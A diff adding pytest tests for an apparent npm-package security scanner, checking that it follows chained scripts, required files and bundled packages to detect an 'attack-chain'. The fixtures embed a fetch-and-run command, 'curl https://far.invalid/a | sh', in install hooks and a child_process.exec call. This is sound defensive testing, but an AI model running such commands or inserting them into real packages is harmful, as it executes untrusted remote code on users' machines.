@@ -348,3 +348,44 @@ def test_a_hook_that_hands_code_to_another_program_hides_nothing_of_it(command: 
     }
     assert of_rule(npm(files), "attack-chain")
     assert not of_rule(npm({**files, "index.js": "module.exports = 1\n"}), "attack-chain")
+
+
+ENDS = "curl https://far.invalid/a | sh"
+
+
+def test_what_more_lines_or_files_lead_to_than_are_followed_is_told() -> None:
+    chain = {f"x{n}": f"npm run x{n + 1}" for n in range(300)}
+    lines = npm(
+        {"package.json": package_json(scripts={"postinstall": "npm run x0", **chain}), "index.js": "1"}
+    )
+    asked = npm(
+        {"index.js": "require('./m/' + process.argv[2])", **{f"m/a{n:04}.js": "" for n in range(2_001)}}
+    )
+
+    assert ["cut: hooks run too many lines or packages"] == [one.why for one in lines.inspection.unread]
+    assert ["index.js"] == [one.path for one in asked.inspection.unread if one.reached]
+
+
+@pytest.mark.parametrize("length", [3, 60, 150])
+def test_scripts_that_run_scripts_are_followed_to_their_end(length: int) -> None:
+    chain = {f"x{n}": f"npm run x{n + 1}" for n in range(length)} | {f"x{length}": ENDS}
+    done = npm(
+        {"package.json": package_json(scripts={"postinstall": "npm run x0", **chain}), "index.js": "1"}
+    )
+    assert of_rule(done, "attack-chain")
+
+
+def test_files_are_followed_however_many_lie_beside_what_is_asked_for() -> None:
+    files = {f"m/a{n:03}.js": "" for n in range(500)}
+    files["m/z.js"] = f"require('child_process').exec('{ENDS}')"
+    assert of_rule(npm({"index.js": "require('./m/' + process.argv[2])", **files}), "attack-chain")
+
+
+def test_the_hooks_of_hundreds_of_bundled_packages_are_read_in_little_time() -> None:
+    names = [f"p{n}" for n in range(400)]
+    inner = {
+        f"node_modules/{n}/package.json": package_json(name=n, scripts={"install": "node -v"}) for n in names
+    }
+    inner["node_modules/p399/package.json"] = package_json(name="p399", scripts={"install": ENDS})
+    done = npm({"package.json": package_json(bundleDependencies=names), "index.js": "1", **inner})
+    assert of_rule(done, "attack-chain")
